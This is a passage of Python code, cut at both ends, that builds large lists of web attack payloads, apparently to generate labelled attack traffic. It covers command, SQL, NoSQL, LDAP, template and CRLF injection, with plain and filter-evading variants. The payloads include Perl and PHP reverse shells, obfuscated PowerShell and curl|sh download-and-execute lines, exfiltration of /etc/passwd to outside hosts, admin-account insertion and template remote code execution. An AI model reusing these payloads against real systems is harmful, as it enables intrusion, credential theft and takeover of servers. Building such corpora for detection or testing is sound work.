            'a.jpg;perl -e \'use Socket;$i="%s";$p=53;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\''
            % ip,
            "multipart",
            param="filename",
        )
    )
    n.append(
        A(
            "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl \"http://%s/it)'\npop graphic-context\n"
            % ip,
            "multipart",
            mp="file",
            fname="profile.mvg",
            fct="image/jpeg",
            field="image",
            path="/api/convert/image",
        )
    )
    n.append(A("; id", "path", tpl="/cgi-bin/{}", kind="cli"))
    n.append(A("8.8.8.8;cat${IFS}/etc/passwd", "path", tpl="/api/v1/hosts/{}/ping", kind="cli"))
    n.append(A("test$(id>/var/www/html/o.txt)", "cookie", cookie="device"))
    n.append(A("srv01; curl -d @/etc/passwd http://%s/" % o, "xml", param="hostname"))
    n.append(A("x' ; ping -c 3 %s ; '" % o, "query", param="domain", path="/api/v1/dns/lookup"))
    n.append(A("127.0.0.1%0acat /etc/hosts".replace("%0a", "\n"), "query", param="target", path="/tools/traceroute"))
    n.append(A("db01 && tar czf - /etc | curl -T - http://%s/up" % ip, "json", param="name", path="/api/backup/run"))
    n.append(A('cmd /c "ver & ipconfig /all & net user"', "json", param="cmd", path="/admin/system/exec"))
    n.append(A('1;php -r \'$s=fsockopen("%s",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'' % ip, "form", param="addr"))
    n.append(A("nas.local; mshta http://%s/h.hta" % ip, "header", hdr="X-Hostname"))
    h = []
    h.append(A("127.0.0.1;{cat,/etc/passwd}", "query", True, param="ip"))
    h.append(A("8.8.8.8;c''at /e\"t\"c/pa''sswd", "form", True, param="host"))
    h.append(A("x;w$@hoami", "query", True, param="name"))
    h.append(A("a;/???/??t${IFS}/???/p??s??", "json", True, param="host"))
    h.append(A("x;a=who;b=ami;$a$b", "query", True, param="target"))
    h.append(A("1;$(printf '\\x69\\x64')", "form", True, param="dst"))
    h.append(A("1|echo %s|base64 -d|sh" % b64("curl http://%s/x|sh" % ip), "json", True, param="hostname"))
    h.append(A("127.0.0.1%0aid", "query", True, param="ip"))
    h.append(A("127.0.0.1\tid", "query", True, param="host", enc="all"))
    h.append(
        A(
            "powershell -e %s" % ps_enc("IEX(New-Object Net.WebClient).DownloadString('http://%s/r.ps1')" % ip),
            "json",
            True,
            param="filename",
        )
    )
    h.append(
        A(
            "|pOwErShElL -c \"I`E`X(n`Ew-Obj`ect N`et.WebC`lient).DownloadString('http://%s/a')\"" % ip,
            "form",
            True,
            param="filename",
        )
    )
    h.append(A("&w^h^o^a^m^i", "query", True, param="device"))
    h.append(A("x;$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d)", "cookie", True, cookie="hostname"))
    h.append(A("8.8.8.8;c\\at /et\\c/sha\\dow", "json", True, param="host", enc="jsp"))
    h.append(A("x;curl http://%s/s|sh" % ip, "xml", True, param="device", enc="xr"))
    h.append(
        A(
            "() { :;}; echo; /usr/bin/env $'\\x62\\x61\\x73\\x68' -c 'id'",
            "header",
            True,
            hdr="X-Device-Name",
            path="/cgi-bin/status",
        )
    )
    h.append(A("127.0.0.1;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd", "query", True, param="addr"))
    h.append(A("\nid\n", "json", True, param="interface", deep=10))
    h.append(A(longpad("; curl -fsSL http://%s/i | bash" % ip), "json", True, param="description", path="/api/v1/jobs"))
    h.append(A("%0a%2fbin%2fcat%20%2fetc%2fpasswd", "form", True, param="host"))
    return n, h


# ---------------------------------------------------------------- sqli


def specs_sqli():
    o = oast()
    n = []
    n.append(A("1 AND 1=1", "query", param="id"))
    n.append(A("1' OR '1'='1' -- -", "query", param="user"))
    n.append(A("-1 UNION SELECT NULL,username,password,NULL FROM users-- -", "query", param="id", path="/products"))
    n.append(A("1' AND SLEEP(5)#", "path", tpl="/products/{}"))
    n.append(
        A(
            "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))",
            "query",
            param="category",
            path="/catalog/list.php",
        )
    )
    n.append(A("1 AND UPDATEXML(1,CONCAT(0x7e,(SELECT user()),0x7e),1)", "form", param="item"))
    n.append(
        A(
            "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' THEN name ELSE price END)",
            "query",
            param="sort",
        )
    )
    n.append(A("price,IF((SELECT COUNT(*) FROM information_schema.tables)>50,SLEEP(3),0)", "query", param="order"))
    n.append(A("10 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,(SELECT version()))),1)", "query", param="limit"))
    n.append(A("0 OFFSET (SELECT CASE WHEN (1=1) THEN 0 ELSE 1 END)", "query", param="offset"))
    n.append(A("1'; WAITFOR DELAY '0:0:7'--", "json", param="id"))
    n.append(A("1; EXEC master..xp_cmdshell 'ping -n 2 %s'--" % o, "form", param="user"))
    n.append(A("1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))", "query", param="region"))
    n.append(A("1; SELECT pg_sleep(6)--", "json", param="status"))
    n.append(
        A("1 AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)", "query", param="id")
    )
    n.append(A("'; COPY (SELECT '') TO PROGRAM 'curl http://%s/pg'--" % o, "json", param="q"))
    n.append(
        A(
            "' || (SELECT UTL_INADDR.get_host_name((SELECT user FROM dual)||'.%s') FROM dual) || '" % o,
            "form",
            param="q",
        )
    )
    n.append(A("1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',6)", "query", param="item"))
    n.append(A("x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1))--", "query", param="from"))
    n.append(A("1 UNION SELECT 1,group_concat(sql),3 FROM sqlite_master--", "query", param="id", path="/api/items"))
    n.append(A("1 AND 1=like('ABCDEFG',upper(hex(randomblob(300000000/2))))", "path", tpl="/api/items/{}"))
    n.append(A("admin'/*", "form", param="username", path="/login", fextra=[("password", "whatever")]))
    n.append(A("' OR data->>'role' = 'admin' OR '1'='1", "json", param="filter", path="/api/items/filter"))
    n.append(A("x') OR JSON_EXTRACT(profile,'$.isAdmin')=true-- -", "query", param="q"))
    n.append(A("1 AND (SELECT 4523 FROM (SELECT(SLEEP(5)))a)", "cookie", cookie="cart_id"))
    n.append(
        A(
            "en' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- ",
            "cookie",
            cookie="region",
        )
    )
    n.append(A("1' AND 1=(SELECT COUNT(*) FROM tabname); --", "header", hdr="X-Customer-Id"))
    n.append(A("127.0.0.1' AND SLEEP(5) AND '1'='1", "header", hdr="X-Forwarded-For"))
    n.append(
        A(
            "1'; INSERT INTO users(username,password,role) VALUES('svc_backup','$2y$10$%s','admin');--" % ralnum(22),
            "xml",
            param="customerId",
        )
    )
    n.append(
        A("1) UNION ALL SELECT table_name,column_name FROM information_schema.columns-- -", "multipart", param="item")
    )
    h = []
    h.append(A("1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users", "query", True, param="id", enc="mixed"))
    h.append(
        A(
            "1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,table_name FROM information_schema.tables",
            "query",
            True,
            param="category",
        )
    )
    h.append(A("-1%0bunion%0bselect%0b1,user(),3", "query", True, param="id"))
    h.append(A("1e0UNION SELECT 1,2,3", "path", True, tpl="/products/{}"))
    h.append(A("1'||(SELECT CHR(97)||CHR(100)||CHR(109) FROM dual)||'", "form", True, param="user"))
    h.append(A("1 AND username=0x61646d696e AND SUBSTR(password,1,1)=CHAR(36)", "query", True, param="id"))
    h.append(A("1%2527%2520OR%25201%253D1--", "query", True, param="status"))
    h.append(A("' OR 1=1 -- -", "json", True, param="q", enc="ju"))
    h.append(
        A("' UNION SELECT password FROM users WHERE username='admin'--", "xml", True, param="customerId", enc="xr")
    )
    h.append(A("\u00bf' OR 1=1 -- -", "query", True, param="q", enc="latin1", safe="/:,@!$*()~"))
    h.append(A("\u02bc OR 1=1--", "json", True, param="user"))
    h.append(A("1' aNd (sElEcT 1 fRoM (sElEcT sLeEp(4))x)-- -", "cookie", True, cookie="user_id"))
    h.append(
        A(
            "1;DECLARE @q VARCHAR(200);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q);--",
            "form",
            True,
            param="id",
        )
    )
    h.append(
        A(
            "1 AND 2>1 AND (SELECT ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1)))>64",
            "json",
            True,
            param="id",
            deep=11,
        )
    )
    h.append(
        A(
            longpad("' OR EXISTS(SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')-- -"),
            "json",
            True,
            param="comment",
        )
    )
    h.append(A("1 || pg_sleep(5) --", "query", True, param="offset", enc="all"))
    h.append(A("(SELECT 1 WHERE 1=1 AND 1=(SELECT 1 FROM pg_sleep(5)))", "json", True, param="sort", enc="jsp"))
    h.append(
        A(
            "1 anD 1 lIkE 1 uNiOn aLl sElEcT nUlL,cOnCaT(0x3a,table_schema,0x3a) fRoM information_schema.schemata",
            "query",
            True,
            param="region",
        )
    )
    h.append(A("1 AND 1=1 UNION SELECT `password` FROM `users`#", "multipart", True, mp="field", param="item"))
    h.append(A("1'and(select+1)>0waitfor/**/delay'0:0:5'--", "header", True, hdr="X-Tenant-Id"))
    return n, h


# ---------------------------------------------------------------- nosqli


def specs_nosqli():
    o = oast()
    n = []
    n.append(A("password[$ne]", "form", as_key=True, val="x", fextra=[("username", "admin")], path="/api/v1/login"))
    n.append(A(jcompact({"$ne": None}), "json", raw_json=True, param="password", path="/api/v1/login"))
    n.append(A(jcompact({"$gt": ""}), "json", raw_json=True, param="username", path="/api/v2/auth/session"))
    n.append(A(jcompact({"$regex": "^adm", "$options": "i"}), "json", raw_json=True, param="username"))
    n.append(A("username[$regex]", "query_key", val="^a.*", path="/api/users"))
    n.append(A("password[$exists]", "query_key", val="true", path="/api/users"))
    n.append(
        A(jcompact({"$where": "sleep(5000) || true"}), "json", raw_json=True, param="filter", path="/api/search/query")
    )
    n.append(A("admin' || '1'=='1", "json", param="name"))
    n.append(
        A(
            jcompact({"$where": "function(){return this.password.match(/^a/) != null;}"}),
            "json",
            raw_json=True,
            param="query",
        )
    )
    n.append(
        A(
            jcompact({"$or": [{"username": "admin"}, {"username": {"$ne": None}}]}),
            "json",
            raw_json=True,
            param="filter",
        )
    )
    n.append(A(jcompact({"$expr": {"$gt": [{"$strLenCP": "$password"}, 0]}}), "json", raw_json=True, param="where"))
    n.append(
        A(
            jcompact(
                {"$expr": {"$function": {"body": "function(){ sleep(3000); return true }", "args": [], "lang": "js"}}}
            ),
            "json",
            raw_json=True,
            param="filter",
        )
    )
    n.append(
        A(
            jcompact(
                [
                    {"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                    {"$project": {"u.password": 1, "u.email": 1}},
                ]
            ),
            "json",
            raw_json=True,
            param="pipeline",
            path="/api/orders/filter",
        )
    )
    n.append(
        A(
            '["_admin"]',
            "json",
            rawbody='{"type":"user","name":"backup_svc","roles":["_admin"],"roles":[],"password":"%s"}' % ralnum(12),
            path="/_users/org.couchdb.user:backup_svc",
            method="PUT",
            host="db.kindlink.app",
            kind="cli",
        )
    )
    n.append(A("*:* AND _exists_:password_hash", "query", param="q", path="/api/search"))
    n.append(
        A(
            "' OR 1=1 WITH 0 as _l00 CALL dbms.components() YIELD name, versions, edition UNWIND versions as version LOAD CSV FROM 'http://%s/?v=' + version as l RETURN 0 as _0 //"
            % o,
            "query",
            param="name",
            host="graph.recipebox.dev",
        )
    )
    n.append(A("x'}) MATCH (n) DETACH DELETE n //", "json", param="name", host="graph.recipebox.dev"))
    n.append(A("admin' ALLOW FILTERING; --", "form", param="username"))
    n.append(A('" || true RETURN u //', "json", param="name", path="/_db/_system/api/users"))
    n.append(A("1; while(true){}", "query", param="id", path="/api/v2/posts"))
    n.append(A(jcompact({"$nin": []}), "json", raw_json=True, param="password", path="/api/v1/login"))
    n.append(
        A(jcompact({"$in": ["admin", "root", "administrator", "superuser"]}), "json", raw_json=True, param="username")
    )
    n.append(A("$where", "json_key", val="sleep(10000)", param="filter"))
    n.append(A("filter[role][$ne]", "form", as_key=True, val="customer", path="/api/users/find"))
    n.append(A("user[$gt]", "query_key", val="", path="/api/users"))
    n.append(
        A(
            jcompact({"$set": {"role": "admin", "emailVerified": True}}),
            "json",
            raw_json=True,
            param="update",
            path="/api/v1/profile",
            method="PATCH",
        )
    )
    n.append(A(jcompact({"$regex": "^.{8}$"}), "json", raw_json=True, param="password"))
    n.append(A("email[$ne]", "multipart", mp="name", val="nobody@example.com"))
    n.append(A('j:{"$ne":null}', "cookie", cookie="session"))
    n.append(A("a' && this.password.length > 0 && 'a'=='a", "query", param="username"))
    h = []
    h.append(A(jcompact({"$ne": None}), "json", True, raw_json=True, enc="ju", param="password", path="/api/v1/login"))
    h.append(A("password[$ne]", "query_key", True, enc="all", val="1", path="/api/v1/login"))
    h.append(A(jcompact({"$gt": ""}), "json", True, raw_json=True, param="token", deep=11))
    h.append(A(jcompact({"$regex": "^(a+)+$"}), "json", True, raw_json=True, param="email"))
    h.append(
        A(
            jcompact({"$where": "var d=new Date();do{var c=new Date();}while(c-d<5000);return true"}),
            "json",
            True,
            raw_json=True,
            param="query",
        )
    )
    h.append(
        A(
            jcompact({"$where": "function(){return eval(String.fromCharCode(115,108,101,101,112,40,53,48,48,48,41))}"}),
            "json",
            True,
            raw_json=True,
            param="filter",
        )
    )
    h.append(A("a'||this.password.charAt(0)=='s'||'", "query", True, param="name", enc="mixed"))
    h.append(A("$or", "json_key", True, val=[{"a": 1}, {"role": {"$ne": "user"}}], param="query", deep=10))
    h.append(A("login[$regex]", "form", True, as_key=True, val="^adm.*", enc="mixed"))
    h.append(A('j:{"\\u0024gt":""}', "cookie", True, cookie="filter"))
    h.append(A("user[password][$ne]", "multipart", True, mp="name", val="x"))
    h.append(A('{"status":{"$ne":"deleted"},"$where":"sleep(3000)||1"}', "header", True, hdr="X-Query"))
    h.append(A("x'/**/OR/**/1=1/**/RETURN/**/n//", "query", True, param="name", host="graph.recipebox.dev"))
    h.append(A("title:x OR _index:* OR password:*", "json", True, param="search", enc="jsp"))
    h.append(
        A(
            jcompact({"$expr": {"$eq": [{"$substrCP": ["$password", 0, 1]}, "a"]}}),
            "json",
            True,
            raw_json=True,
            param="where",
            enc="jmix",
        )
    )
    h.append(A(longpad("x'; return true; var y='"), "json", True, param="comment"))
    h.append(A("password%5B%24ne%5D", "query_key", True, val="x", path="/api/v1/login"))
    h.append(
        A(
            jcompact({"username": {"$eq": "admin"}, "password": {"$not": {"$size": 0}}}),
            "json",
            True,
            raw_json=True,
            param="credentials",
        )
    )
    h.append(A("filter[$where]", "form", True, as_key=True, val="this.isAdmin||1==1", enc="all"))
    h.append(
        A(jcompact({"$jsonSchema": {"required": ["resetToken"]}}), "json", True, raw_json=True, param="filter", style=1)
    )
    return n, h


# ---------------------------------------------------------------- ldapi


def specs_ldapi():
    n = []
    vals = [
        ("*)(uid=*))(|(uid=*", "query"),
        ("admin)(&)", "form"),
        ("admin)(|(password=*))", "form"),
        ("*)(|(objectClass=*)", "query"),
        ("*)(userPassword=*)", "json"),
        ("admin*)((|userPassword=*)", "form"),
        ("*)(&(objectClass=user)(memberOf=CN=Domain Admins,CN=Users,DC=corp,DC=local)", "query"),
        ("jdoe)(|(sn=*)(givenName=*)", "json"),
        ("*))\x00", "query"),
        ("*)(mail=*@*", "query"),
        ("a*)(sAMAccountName=a*", "json"),
        ("*)(|(cn=*)(uid=*)(mail=*))(&(1=0", "form"),
        ("admin)(!(&(1=0)", "form"),
        (")(cn=*))(|(cn=*", "query"),
        ("*)(objectCategory=computer)", "json"),
        ("*)(description=*pass*)", "query"),
        ("x)(|(uid=admin)(uid=root))(&(uid=x", "xml"),
        ("(|(uid=*)(cn=*))", "query"),
        ("(&(objectClass=person)(|(uid=*)(userPassword=*)))", "json"),
        ("*)(ms-MCS-AdmPwd=*", "query"),
        ("*)(|(homeDirectory=*)(unixHomeDirectory=*)", "multipart"),
        ("*)(uidNumber>=0)(uid=*", "query"),
        ("*)(pwdLastSet<=0", "cookie"),
        ("j*)(userAccountControl:1.2.840.113556.1.4.803:=2)", "json"),
        ("admin)(&(objectClass=*)(|(cn=a*)(cn=b*))", "header"),
        ("*)(member=CN=Administrators,CN=Builtin,DC=corp,DC=acme,DC=com", "query"),
        ("*)(telephoneNumber=*", "path"),
        ("*)(|(department=*)(title=*admin*)", "json"),
        ("svc_*)(|(servicePrincipalName=*)", "form"),
        ("*)(|(objectClass=groupPolicyContainer)(gPCFileSysPath=*)", "xml"),
    ]
    for v, pl in vals:
        kw = {}
        if pl == "form" and v.startswith("admin"):
            kw = dict(param="username", fextra=[("password", ralnum(10))], path="/login")
        if pl == "header":
            kw = dict(hdr="X-Remote-User")
        n.append(A(v, pl, **kw))
    h = []
    h.append(A("%2a%29%28uid%3d%2a%29%29%28%7c%28uid%3d%2a", "query", True, param="user"))
    h.append(A("*)(|(objectClass=*)", "json", True, param="search", enc="jsp"))
    h.append(A("admin)(|(userPassword=*)", "xml", True, param="username", enc="xr"))
    h.append(A("*)(uid=*))(|(uid=*", "query", True, param="uid", enc="all"))
    h.append(A("*)(2.5.4.3=*", "query", True, param="cn"))
    h.append(A("*)(0.9.2342.19200300.100.1.1=admin)(|(0.9.2342.19200300.100.1.1=*", "json", True, param="username"))
    h.append(A("*)(cn:dn:=Administrators)(|(cn=*", "form", True, param="group"))
    h.append(A("*)(OBJECTCLASS=*))(|(OBJECTCLASS=*", "query", True, param="filter"))
    h.append(
        A("Basic " + b64("*)(uid=*))(|(uid=*:%s" % ralnum(8)), "header", True, hdr="Authorization", path="/api/auth")
    )
    h.append(A("*)(|(userPassword=*)", "json", True, param="uid", deep=11))
    h.append(A(longpad("*)(|(mail=*)(userPassword=*)"), "json", True, param="query"))
    h.append(
        A("*)(&(objectClass=*)(userAccountControl:1.2.840.113556.1.4.804:=512)", "query", True, param="q", enc="mixed")
    )
    h.append(A("admin)(|(cn=*", "cookie", True, cookie="last_user"))
    h.append(A("*)(uid=*))%00", "form", True, param="user"))
    h.append(A("a)(!(sn=zzz))(|(sn=a", "multipart", True, param="username"))
    h.append(A("*)(|(uid=*)(cn=*)", "json", True, param="login", enc="ju"))
    h.append(A("*)%28uid%3D*%29%29%28%7C%28uid%3D*", "path", True, tpl="/api/people/{}"))
    h.append(A("ad*)(|(sAMAccountName=ad*)(sAMAccountType=805306368)", "query", True, param="name"))
    h.append(A("*)(objectSid=S-1-5-21-*-500)", "json", True, param="filter", enc="jmix"))
    h.append(A("x)(|(&(objectClass=user)(adminCount=1))(cn=x", "form", True, param="search", enc="all"))
    return n, h


# ---------------------------------------------------------------- ssti


def specs_ssti():
    o, ip = oast(), eip()
    n = []
    hb = (
        '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}'
        "{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
        "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
    )
    vel = (
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
        "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()#set($out=$ex.getInputStream())"
        "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end"
    )
    items = [
        ("{{7*7}}", "query", "name"),
        ("{{config.items()}}", "query", "greeting"),
        ("{{''.__class__.__mro__[1].__subclasses__()}}", "json", "template"),
        ("{{cycler.__init__.__globals__.os.popen('id').read()}}", "form", "first_name"),
        (
            "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
            "json",
            "body",
        ),
        ('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', "query", "title"),
        ("{{['id']|filter('system')}}", "form", "subject"),
        ("{{['cat /etc/passwd']|map('passthru')|join}}", "json", "message"),
        ('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "json", "content"),
        ('${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}', "query", "msg"),
        (vel, "form", "template"),
        ("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "path", None),
        ("[[${T(java.lang.Runtime).getRuntime().exec('curl http://%s/t')}]]" % o, "json", "footer"),
        ("<%= `id` %>", "query", "name"),
        ("<%= File.read('/etc/passwd') %>", "json", "greeting"),
        ("<%= IO.popen('ls -la /').readlines() %>", "form", "message"),
        (hb, "json", "template"),
        ("{system('id')}", "query", "title"),
        (
            "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
            "form",
            "content",
        ),
        ("<%import os%>${os.popen('id').read()}", "json", "subject"),
        ("${self.module.cache.util.os.system('id')}", "query", "name"),
        ("{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}", "json", "body"),
        ('{{ readFile "/etc/passwd" }}', "form", "content"),
        ('{{ env "AWS_SECRET_ACCESS_KEY" }}', "query", "footer"),
        ("{% include '/etc/passwd' %}", "json", "template"),
        (
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
            "query",
            "greeting",
        ),
        (
            "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('curl %s')}()}"
            % o,
            "json",
            "title",
        ),
        ("<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>", "multipart", "body"),
        ('@System.Diagnostics.Process.Start("cmd.exe","/c whoami")', "xml", "message"),
        ('{% import os %}{{ os.popen("id").read() }}', "cookie", None),
    ]
    for v, pl, prm in items:
        kw = {}
        if prm:
            kw["param"] = prm
        if pl == "path":
            kw["tpl"] = "/doc/{}"
        n.append(A(v, pl, **kw))
    h = []
    h.append(
        A(
            "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
            "query",
            True,
            param="name",
        )
    )
    h.append(A("{{lipsum.__globals__['o''s'].popen('i''d').read()}}", "json", True, param="greeting"))
    h.append(
        A(
            "{% set a = 'o'~'s' %}{{ cycler.__init__.__globals__[a].popen('whoami').read() }}",
            "form",
            True,
            param="message",
        )
    )
    h.append(
        A(
            "{{()|attr(request.args.c)|attr(request.args.b)|attr(request.args.s)()}}",
            "query",
            True,
            param="name",
            qextra=[("c", "__class__"), ("b", "__base__"), ("s", "__subclasses__")],
        )
    )
    h.append(
        A(
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
            "json",
            True,
            param="title",
            enc="ju",
        )
    )
    h.append(A("{{7*7}}${7*7}<%= 7*7 %>#{7*7}${{7*7}}", "xml", True, param="subject", enc="xr"))
    h.append(
        A(
            '{%print(lipsum|attr("__globals__"))|attr("__getitem__")("os")|attr("popen")("id")|attr("read")()%}',
            "query",
            True,
            param="greeting",
            enc="mixed",
        )
    )
    h.append(
        A(
            "{{ config['__cla'+'ss__'].__init__.__globals__['os'].popen('ls').read() }}",
            "json",
            True,
            param="body",
            deep=10,
        )
    )
    h.append(A("{{'id'|filter('sys'~'tem')}}", "form", True, param="subject"))
    h.append(
        A(
            '<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.template.ObjectWrapper")>'
            '<#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=classloader.loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("id")}',
            "json",
            True,
            param="template",
        )
    )
    h.append(
        A(
            "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
            "multipart",
            True,
            param="content",
        )
    )
    h.append(
        A(
            '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x',
            "query",
            True,
            param="lang",
            enc="all",
        )
    )
    h.append(
        A(
            "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100))).getInputStream())}",
            "form",
            True,
            param="name",
        )
    )
    h.append(
        A(
            "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray()) }}",
            "json",
            True,
            param="body",
        )
    )
    h.append(
        A(
            longpad("{{ cycler.__init__.__globals__.os.popen('curl http://%s/j').read() }}" % o),
            "json",
            True,
            param="message",
        )
    )
    h.append(A("<%%= eval(Base64.decode64('%s')) %%>" % b64("`id`"), "json", True, param="greeting"))
    h.append(
        A(
            "{{#with this as |o|}}{{lookup (lookup o 'constructor') 'name'}}{{/with}}{{this.constructor.constructor('return process.env')()}}",
            "cookie",
            True,
            cookie="display_name",
        )
    )
    h.append(A("{if phpinfo()}{/if}{if system('id')}{/if}", "header", True, hdr="X-Display-Name"))
    h.append(
        A(
            "${''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}",
            "query",
            True,
            param="subject",
            enc="all",
        )
    )
    h.append(
        A("\uff5b\uff5b7*7\uff5d\uff5d{{''['\\x5f\\x5fclass\\x5f\\x5f']}}", "json", True, param="first_name", enc="jsp")
    )
    return n, h


# ---------------------------------------------------------------- crlf


def specs_crlf():
    d = edom()
    n = []
    items = [
        ("/en/home\r\nSet-Cookie: sessionid=attacker-fixed; Path=/; HttpOnly", "query", "redirect"),
        ("\r\nSet-Cookie: crlf=injection; Domain=.seabreeze-resorts.com", "path", None),
        ("en\r\nX-XSS-Protection: 0\r\n\r\n<script>alert(document.cookie)</script>", "query", "lang"),
        ("https://www.seabreeze-resorts.com/\r\nLocation: https://%s/login" % d, "query", "next"),
        (
            "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
            "query",
            "url",
        ),
        (
            'report.pdf"\r\nContent-Type: text/html\r\n\r\n<html><body><h1>Session expired</h1><form action="https://%s/">'
            % d,
            "form",
            "filename",
        ),
        ("cdn.example.com%0d%0aSet-Cookie: admin=true", "header", None),
        ("en\r\nSet-Cookie: role=admin", "cookie", "lang"),
        ("https://app.parcelwise.com/done\r\nRefresh: 0; url=https://%s/" % d, "json", "callback"),
        ("jdoe\n2026-12-08 10:22:01 INFO [auth] Login succeeded for user=admin from 10.0.0.5", "form", "username"),
        ("/dashboard\nX-Forwarded-For: 127.0.0.1", "query", "continue"),
        ("/\rSet-Cookie: x=1", "query", "return_to"),
        (
            "/account\r\nAccess-Control-Allow-Origin: https://%s\r\nAccess-Control-Allow-Credentials: true" % d,
            "query",
            "dest",
        ),
        ("de\r\nContent-Security-Policy: default-src *", "form", "locale"),
        ("v1\r\nHost: internal-admin.local", "json", "X-Custom"),
        ("Alice\r\nX-Injected: 1", "multipart", "display_name"),
        ("\r\nSet-Cookie: tracking=evil", "query_key", None),
        ("/thanks\r\nLocation: javascript:alert(1)", "query", "ref"),
        ("abc123\r\n\r\n<html><script src=https://%s/x.js></script></html>" % d, "query", "callback"),
        ("Mozilla/5.0%0d%0aX-Forwarded-For: 127.0.0.1", "header", "User-Agent"),
        ("https://www.google.com/%0d%0aSet-Cookie: ga=1", "header", "Referer"),
        ("/cart\r\nSet-Cookie: cart_owner=attacker\r\nSet-Cookie: currency=XBT", "json", "return_to"),
        ("invoice.csv\r\nX-Download-Options: noopen\r\nContent-Disposition: inline", "query", "filename"),
        ("\r\nX-Original-URL: /admin", "path", None),
        ("/home\r\nLink: <https://%s/evil.css>; rel=stylesheet" % d, "form", "next"),
        ("x\r\nSet-Cookie: __Host-sess=fixated; Path=/; Secure", "cookie", "tracking_id"),
        ("http://10.0.0.8:6379/ HTTP/1.1\r\nSLAVEOF %s 6379\r\nfoo: " % eip(), "json", "url"),
        ("/\r\n\tSet-Cookie: folded=1", "query", "next"),
        ("en-US\r\nCache-Control: public, max-age=31536000", "query", "locale"),
        ("%0d%0aSet-Cookie: x=1", "header", "X-Request-Id"),
    ]
    for v, pl, prm in items:
        kw = {}
        if pl == "header":
            kw["hdr"] = prm or "X-Forwarded-Host"
        elif pl == "cookie":
            kw["cookie"] = prm
        elif pl == "path":
            kw["tpl"] = ch(["/{}", "/r/{}", "/lang/{}"])
        elif prm:
            kw["param"] = prm
        if pl == "json" and prm == "X-Custom":
            kw = dict(
                path="/api/webhooks",
                obj={
                    "name": "orders",
                    "url": "https://hooks.parcelwise.com/in/%s" % ralnum(12),
                    "headers": {"X-Custom": SENT},
                    "events": ["order.created"],
                },
            )
        n.append(A(v, pl, **kw))
    h = []
    h.append(A("\u560a\u560dSet-Cookie: crlf=1", "query", True, param="next"))
    h.append(A("%u000d%u000aSet-Cookie: x=1", "query", True, param="redirect"))
    h.append(A("%0d%0aSet-Cookie: sess=attacker", "query", True, param="url"))
